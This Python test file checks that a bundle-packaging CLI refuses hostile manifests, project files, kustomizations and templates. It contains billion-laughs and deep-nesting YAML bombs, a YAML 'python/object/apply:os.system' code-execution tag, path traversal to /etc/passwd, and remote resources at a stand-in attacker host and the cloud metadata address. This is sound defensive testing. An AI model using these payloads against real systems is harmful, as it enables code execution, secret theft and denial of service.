"""Bundles, projects and kustomizations by somebody who wishes us ill."""

from __future__ import annotations

from pathlib import Path

import pytest

from harness import folders, samplebundle
from harness.confined import MIB, podium
from podium.bundle import scaffold

LAUGHS = b"a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + b"".join(
    b"a%d: &a%d [%s]\n" % (n, n, b",".join([b"*a%d" % (n - 1)] * 10)) for n in range(1, 10)
)
HEAD = b"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n"
TEXTS = {
    "JSON nested 10,000 deep": b'{"apiVersion":"v1","kind":"ConfigMap","x":'
    + b"[" * 10_000
    + b"]" * 10_000
    + b"}",
    "JSON that is not closed": b'{"a":' * 100_000,
    "flow YAML nested 10,000 deep": HEAD + b"x: " + b"[" * 10_000 + b"]" * 10_000,
    "flow mappings nested 10,000 deep": HEAD + b"x: " + b"{a: " * 10_000 + b"1" + b"}" * 10_000,
    "block YAML nested 4,000 deep": HEAD + b"".join(b" " * n + b"a:\n" for n in range(4000)),
    "billion laughs": HEAD + LAUGHS,
    "an anchor within itself": HEAD + b"a: &a [*a]\n",
    "a tag that is code": b"!!python/object/apply:os.system ['touch pwned']",
    "a value that is code": HEAD + b"data: !!python/object/apply:os.system ['touch pwned']\n",
    "a file of 9 MiB": HEAD + b"data: {a: " + b"a" * (9 * MIB) + b"}\n",
    "zeros": b"\0" * MIB,
    "bytes that are no UTF-8": HEAD + b"x: \xff\xfe\n",
    "UTF-16": HEAD.decode().encode("utf-16"),
    "a list": b"- a\n- b\n",
    "a text": b"just text",
    "nothing": b"",
    "a kind that is a list": b"apiVersion: v1\nkind: [ConfigMap]\nmetadata: {name: x}\n",
    "metadata that is a text": b"apiVersion: v1\nkind: ConfigMap\nmetadata: x\n",
    "lists of lists": b"apiVersion: v1\nkind: List\nitems:\n"
    + b"- {kind: List, apiVersion: v1, items: []}\n" * 9,
    "10,000 documents": (HEAD + b"---\n") * 10_000,
    "separators": b"---\n" * MIB,
    "140,000 lines": HEAD + b"".join(b"k%d: 1\n" % n for n in range(140_000)),
    "a million lines": HEAD + b"".join(b"k%d: 1\n" % n for n in range(1_000_000)),
    "a text of 7 MiB": HEAD + b"data: {a: " + b"a" * (7 * MIB) + b"}\n",
    "a number of a million digits": HEAD + b"data: {a: " + b"1" * 1_000_000 + b"}\n",
    "an exponent of six digits": HEAD + b"data: {a: 1e999999}\n",
}


CASES = [
    ("manifests/more.yaml", ("bundle", "validate")),
    ("manifests/cache.clusterserviceversion.yaml", ("bundle", "show")),
    ("manifests/more.yaml", ("catalog", "render")),
    ("metadata/annotations.yaml", ("bundle", "validate")),
    ("metadata/dependencies.yaml", ("bundle", "validate")),
]


@pytest.mark.parametrize("name", TEXTS)
@pytest.mark.parametrize(("place", "command"), CASES, ids=lambda part: "".join(part).rpartition("/")[2])
def test_a_bundle_with_a_hostile_file_is_judged_in_time(
    place: str, command: tuple[str, ...], name: str, tmp_path: Path
) -> None:
    bundle = folders.write(tmp_path / "bundle", samplebundle.files() | {place: TEXTS[name]})
    run = podium(*command, bundle, cwd=tmp_path)
    run.assert_bounded()
    assert len(run.err) < 4000
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize("name", TEXTS)
def test_a_project_file_that_is_none_is_refused(name: str, tmp_path: Path) -> None:
    project = folders.write(tmp_path / "p", scaffold.init("pantry-operator") | {"podium.yaml": TEXTS[name]})
    podium("bundle", "generate", project, cwd=tmp_path).assert_refused()
    assert not (project / "bundle").exists()
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize("name", TEXTS)
def test_a_project_with_a_hostile_manifest_is_judged_in_time(name: str, tmp_path: Path) -> None:
    files = scaffold.init("pantry-operator")
    project = folders.write(tmp_path / "p", files | {"config/more.yaml": TEXTS[name]})
    podium("bundle", "generate", project, cwd=tmp_path).assert_bounded()
    assert not (tmp_path / "pwned").exists()


PROJECTS = {
    "10,000 fields that do not exist": (b"signing: none", b"".join(b"k%d: 1\n" % n for n in range(10_000))),
    "10,000 variables that do not exist": (b"displayName: ", b"displayName: " + b"${x}" * 10_000),
    "manifests outside": (b"manifests: config", b"manifests: ../../../../etc"),
    "manifests by an absolute path": (b"manifests: config", b"manifests: /etc"),
    "an icon outside": (b"version: 0.1.0", b"version: 0.1.0\nicon: ../../../../etc/passwd"),
    "a name that is a path": (b"name: pantry-operator", b"name: ../../pwned"),
    "a version that is a path": (b"version: 0.1.0", b"version: ../../pwned"),
    "a version without end": (b"version: 0.1.0", b"version: 0.1." + b"1" * 100_000),
}


@pytest.mark.parametrize("name", PROJECTS)
def test_a_project_that_reaches_outside_its_folder_is_refused(name: str, tmp_path: Path) -> None:
    files = scaffold.init("pantry-operator")
    before, after = PROJECTS[name]
    changed = files["podium.yaml"].replace(before, after, 1)
    if changed == files["podium.yaml"]:
        changed += after + b"\n"
    project = folders.write(tmp_path / "a/b/p", files | {"podium.yaml": changed})
    podium("bundle", "generate", project, cwd=tmp_path).assert_refused()
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a"]
    assert sorted(path.name for path in (tmp_path / "a/b").iterdir()) == ["p"]
    assert not (project / "bundle").exists()


KUSTOMIZATIONS = {
    "itself": b"resources: [.]",
    "itself by name": b"resources: [../config]",
    "the folder above": b"resources: [..]",
    "a path outside": b"resources: [../../../../etc/passwd]",
    "an absolute path": b"resources: [/etc/passwd]",
    "a remote file": b"resources: ['https://evil.example/x.yaml']",
    "a remote repository": b"resources: ['github.com/evil/repo//config?ref=main']",
    "a remote repository over SSH": b"resources: ['git@evil.example:a/b.git']",
    "a link-local address": b"resources: ['http://169.254.169.254/latest/meta-data']",
    "a remote base": b"bases: ['git::https://evil.example/x']",
    "a patch outside": b"patches: [{path: ../../../../etc/passwd}]",
    "a generator that reads outside": b"secretGenerator: [{name: x, files: [../../../../etc/passwd]}]",
    "a generator that reads by an absolute path": b"configMapGenerator: [{name: x, files: [/etc/passwd]}]",
    "environments from outside": b"configMapGenerator: [{name: x, envs: [../../../../etc/passwd]}]",
    "a chart": b"helmCharts: [{name: x, repo: 'https://evil.example'}]",
    "a program": b"transformers: [x.yaml]\ngenerators: [y.yaml]",
    "a component outside": b"components: [../../../../etc]",
    "the same 10,000 times": b"resources: [" + b"a.yaml, " * 10_000 + b"]",
    "a list that is a text": b"resources: /etc/passwd",
    "nested deeply": b"resources: " + b"[" * 10_000,
    "laughs": LAUGHS,
}


@pytest.mark.parametrize("name", KUSTOMIZATIONS)
def test_a_kustomization_reads_nothing_but_its_project(name: str, tmp_path: Path) -> None:
    files = scaffold.init("pantry-operator")
    files |= {"config/a.yaml": HEAD, "config/kustomization.yaml": KUSTOMIZATIONS[name]}
    project = folders.write(tmp_path / "p", files)
    run = podium("bundle", "generate", project, cwd=tmp_path)
    run.assert_refused()
    assert "root:" not in run.words
    assert not (project / "bundle").exists()


def test_kustomizations_that_multiply_are_refused(tmp_path: Path) -> None:
    files = scaffold.init("pantry-operator")
    for level in range(20):
        here = f"config/{level}" if level else "config"
        below = b"".join(b"- %s%d/%s\n" % (b"../" if level else b"", level + 1, side) for side in (b"", b"."))
        files[f"{here}/kustomization.yaml"] = b"resources:\n" + below
    files["config/20/kustomization.yaml"] = b"resources: [a.yaml]"
    files["config/20/a.yaml"] = HEAD
    podium("bundle", "generate", folders.write(tmp_path / "p", files), cwd=tmp_path).assert_refused()


TEMPLATES = {
    **TEXTS,
    "a template nested deeply": b"schema: olm.template.basic\nentries: " + b"[" * 10_000 + b"]" * 10_000,
    "a template that laughs": b"schema: olm.semver\n" + LAUGHS + b"stable: *a9\n",
    "entries that are a text": b"schema: olm.template.basic\nentries: x\n",
    "bundles that are a mapping": b"schema: olm.semver\nstable: {bundles: {a: b}}\n",
    "a schema that is a list": b"schema: [olm.semver]\n",
}


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_hostile_template_is_refused_and_never_changed(name: str, tmp_path: Path) -> None:
    bundle = folders.write(tmp_path / "bundle", samplebundle.files())
    template = tmp_path / "template.yaml"
    template.write_bytes(TEMPLATES[name])
    podium("catalog", "template", template, cwd=tmp_path).assert_refused()
    podium("catalog", "add", template, "docker.io/a/b:1", "--from", bundle, cwd=tmp_path).assert_refused()
    assert template.read_bytes() == TEMPLATES[name]
    assert not (tmp_path / "pwned").exists()
